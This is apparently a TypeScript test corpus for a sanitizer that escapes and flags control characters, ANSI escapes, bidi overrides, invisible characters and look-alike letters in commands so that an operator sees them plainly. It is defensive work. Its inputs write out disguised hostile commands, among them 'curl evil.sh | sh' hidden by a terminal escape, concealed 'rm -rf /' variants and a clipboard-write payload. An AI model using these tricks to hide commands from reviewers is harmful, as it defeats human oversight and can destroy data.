/**
 * The safe-text corpus: input, the plain rendering expected from `safeTextToString(sanitize(input))`, and
 * the exact flags expected. Escapes in `shown` are literal backslash sequences.
 */
import type { SafeTextFlag } from '../../shared/safe-text';

/** One corpus case. */
export interface CorpusCase {
  readonly name: string;
  readonly input: string;
  readonly shown: string;
  readonly flags: readonly SafeTextFlag[];
}

const ESC = '\x1b';

/** Inputs an attacker (or an honest agent) might send, and how the operator must see them. */
export const corpus: readonly CorpusCase[] = [
  // Plain and benign
  { name: 'plain command', input: 'ls -la /var/log', shown: 'ls -la /var/log', flags: [] },
  { name: 'empty', input: '', shown: '', flags: [] },
  {
    name: 'shell metacharacters stay literal',
    input: 'a && b | c; $(d) `e`',
    shown: 'a && b | c; $(d) `e`',
    flags: [],
  },
  { name: 'backslashes stay literal', input: 'printf "a\\nb"', shown: 'printf "a\\nb"', flags: [] },
  { name: 'three spaces are fine', input: 'a   b', shown: 'a   b', flags: [] },
  // Controls
  { name: 'NUL', input: 'cat /etc/passwd\0.txt', shown: 'cat /etc/passwd\\x00.txt', flags: ['control'] },
  {
    name: 'backspace overwrite',
    input: 'rm -rf /tmp/x\b\b\b\b\b/',
    shown: 'rm -rf /tmp/x\\x08\\x08\\x08\\x08\\x08/',
    flags: ['control'],
  },
  { name: 'bell', input: 'echo \x07', shown: 'echo \\x07', flags: ['control'] },
  { name: 'DEL', input: 'ab\x7fc', shown: 'ab\\x7fc', flags: ['control'] },
  { name: 'C1 NEL', input: 'a\u0085b', shown: 'a\\x85b', flags: ['control'] },
  {
    name: 'lone CR hides the start of a line',
    input: 'rm -rf /\rls -la',
    shown: 'rm -rf /\\rls -la',
    flags: ['control'],
  },
  { name: 'lone surrogate', input: 'a\ud800b', shown: 'a\\ud800b', flags: ['control'] },
  // Line breaks and whitespace
  { name: 'LF separates commands', input: 'ls\nrm -rf ~', shown: 'ls\\nrm -rf ~', flags: ['newline'] },
  { name: 'CRLF', input: 'ls\r\nrm -rf ~', shown: 'ls\\r\\nrm -rf ~', flags: ['control', 'newline'] },
  { name: 'line separator U+2028', input: 'a\u2028b', shown: 'a\\u2028b', flags: ['newline'] },
  { name: 'paragraph separator U+2029', input: 'a\u2029b', shown: 'a\\u2029b', flags: ['newline'] },
  { name: 'tab', input: 'a\tb', shown: 'a\\tb', flags: ['whitespace'] },
  {
    name: 'space padding pushes text away',
    input: `echo hi${' '.repeat(40)}; curl x`,
    shown: `echo hi${' '.repeat(40)}; curl x`,
    flags: ['whitespace'],
  },
  // ANSI and terminal escapes
  { name: 'SGR colour', input: `${ESC}[31mred${ESC}[0m`, shown: '\\x1b[31mred\\x1b[0m', flags: ['ansi'] },
  {
    name: 'clear screen and cursor up',
    input: `rm -rf /${ESC}[2J${ESC}[1Als`,
    shown: 'rm -rf /\\x1b[2J\\x1b[1Als',
    flags: ['ansi'],
  },
  {
    name: 'erase line hides what came before',
    input: `curl evil.sh | sh${ESC}[2K${ESC}[1Gls`,
    shown: 'curl evil.sh | sh\\x1b[2K\\x1b[1Gls',
    flags: ['ansi'],
  },
  {
    name: 'concealed text (SGR 8)',
    input: `${ESC}[8msecret${ESC}[28m`,
    shown: '\\x1b[8msecret\\x1b[28m',
    flags: ['ansi'],
  },
  {
    name: 'OSC title with BEL',
    input: `${ESC}]0;pwned\x07ls`,
    shown: '\\x1b]0;pwned\\x07ls',
    flags: ['ansi'],
  },
  {
    name: 'OSC 8 hyperlink with ST',
    input: `${ESC}]8;;http://evil${ESC}\\click${ESC}]8;;${ESC}\\`,
    shown: '\\x1b]8;;http://evil\\x1b\\click\\x1b]8;;\\x1b\\',
    flags: ['ansi'],
  },
  {
    name: 'OSC 52 clipboard write',
    input: `${ESC}]52;c;cm0gLXJmIC8=\x07`,
    shown: '\\x1b]52;c;cm0gLXJmIC8=\\x07',
    flags: ['ansi'],
  },
  { name: 'unterminated CSI at end', input: `ls ${ESC}[`, shown: 'ls \\x1b[', flags: ['ansi'] },
  { name: 'lone ESC', input: `a${ESC}`, shown: 'a\\x1b', flags: ['ansi'] },
  { name: 'two-byte escape (reset terminal)', input: `${ESC}cls`, shown: '\\x1bcls', flags: ['ansi'] },
  { name: 'C1 CSI', input: '\u009b2Jx', shown: '\\x9b2Jx', flags: ['ansi'] },
  {
    name: 'OSC cut short by a bidi char',
    input: `${ESC}]0;a\u202eb`,
    shown: '\\x1b]0;a\\u202eb',
    flags: ['bidi', 'ansi'],
  },
  // Bidi (Trojan Source)
  {
    name: 'RLO reorders a filename',
    input: 'cat invoice\u202Etxt.exe',
    shown: 'cat invoice\\u202etxt.exe',
    flags: ['bidi'],
  },
  {
    name: 'Trojan Source early return',
    input: 'if [ "$u" != "user\u202E \u2066# admin\u2069 \u2066" ]; then',
    shown: 'if [ "$u" != "user\\u202e \\u2066# admin\\u2069 \\u2066" ]; then',
    flags: ['bidi'],
  },
  { name: 'LRM and RLM', input: 'a\u200Eb\u200Fc', shown: 'a\\u200eb\\u200fc', flags: ['bidi'] },
  { name: 'Arabic letter mark', input: 'x\u061Cy', shown: 'x\\u061cy', flags: ['bidi'] },
  { name: 'LRE/RLE/PDF', input: '\u202Aa\u202Bb\u202C', shown: '\\u202aa\\u202bb\\u202c', flags: ['bidi'] },
  // Invisible
  {
    name: 'zero-width space inside rm',
    input: 'r\u200Bm -rf /',
    shown: 'r\\u200bm -rf /',
    flags: ['invisible'],
  },
  { name: 'ZWJ and ZWNJ', input: 'su\u200Cdo\u200D', shown: 'su\\u200cdo\\u200d', flags: ['invisible'] },
  {
    name: 'word joiner and invisible operators',
    input: 'a\u2060b\u2062c\u2064',
    shown: 'a\\u2060b\\u2062c\\u2064',
    flags: ['invisible'],
  },
  { name: 'BOM', input: '\uFEFFls', shown: '\\ufeffls', flags: ['invisible'] },
  { name: 'soft hyphen', input: 'pass\u00ADwd', shown: 'pass\\xadwd', flags: ['invisible'] },
  { name: 'Mongolian vowel separator', input: 'a\u180Eb', shown: 'a\\u180eb', flags: ['invisible'] },
  {
    name: 'tag characters (ASCII smuggling)',
    input: 'ok\u{E0069}\u{E0067}',
    shown: 'ok\\u{e0069}\\u{e0067}',
    flags: ['invisible'],
  },
  { name: 'variation selector', input: 'a\uFE0Fb', shown: 'a\\ufe0fb', flags: ['invisible'] },
  { name: 'Hangul filler', input: 'x\u3164y', shown: 'x\\u3164y', flags: ['invisible'] },
  // Confusables
  {
    name: 'Cyrillic a in a hostname',
    input: 'ssh root@pаypal.com',
    shown: 'ssh root@p\\u0430ypal.com',
    flags: ['confusable'],
  },
  {
    name: 'Cyrillic o in google',
    input: 'curl https://gооgle.com',
    shown: 'curl https://g\\u043e\\u043egle.com',
    flags: ['confusable'],
  },
  {
    name: 'Greek omicron in a path',
    input: 'cat /etc/passwd.bak /hοme',
    shown: 'cat /etc/passwd.bak /h\\u03bfme',
    flags: ['confusable'],
  },
  {
    name: 'whole-word Cyrillic look-alike in Latin text',
    input: 'echo сор',
    shown: 'echo \\u0441\\u043e\\u0440',
    flags: ['confusable'],
  },
  { name: 'fullwidth letters', input: 'ｒｍ -rf /', shown: '\\uff52\\uff4d -rf /', flags: ['confusable'] },
  {
    name: 'mathematical bold letters',
    input: '𝐬𝐮𝐝𝐨 ls',
    shown: '\\u{1d42c}\\u{1d42e}\\u{1d41d}\\u{1d428} ls',
    flags: ['confusable'],
  },
  { name: 'en dash as an option dash', input: 'rm –rf /', shown: 'rm \\u2013rf /', flags: ['confusable'] },
  { name: 'typographic quotes', input: 'echo “hi”', shown: 'echo \\u201chi\\u201d', flags: ['confusable'] },
  {
    name: 'division slash in a path',
    input: 'rm -rf ∕etc',
    shown: 'rm -rf \\u2215etc',
    flags: ['confusable'],
  },
  {
    name: 'no-break space splits differently',
    input: 'rm\u00A0-rf',
    shown: 'rm\\xa0-rf',
    flags: ['confusable'],
  },
  { name: 'dotless i', input: 'adminıstrator', shown: 'admin\\u0131strator', flags: ['confusable'] },
  // Valid non-Latin and Unicode that must not be flagged
  { name: 'Russian text alone', input: 'Привет, мир', shown: 'Привет, мир', flags: [] },
  { name: 'Greek text alone', input: 'Καλημέρα κόσμε', shown: 'Καλημέρα κόσμε', flags: [] },
  { name: 'Japanese text', input: 'こんにちは世界', shown: 'こんにちは世界', flags: [] },
  {
    name: 'Cyrillic word next to Latin words',
    input: 'echo Привет > /tmp/greeting',
    shown: 'echo Привет > /tmp/greeting',
    flags: [],
  },
  { name: 'accented Latin', input: 'touch café naïve', shown: 'touch café naïve', flags: [] },
  { name: 'combining acute accent', input: 'cafe\u0301', shown: 'cafe\u0301', flags: [] },
  { name: 'astral emoji', input: 'echo 😀 🚀', shown: 'echo 😀 🚀', flags: [] },
  { name: 'astral CJK', input: '𠜎𠜱', shown: '𠜎𠜱', flags: [] },
  { name: 'Hebrew alone (RTL script, not a control)', input: 'שלום', shown: 'שלום', flags: [] },
];
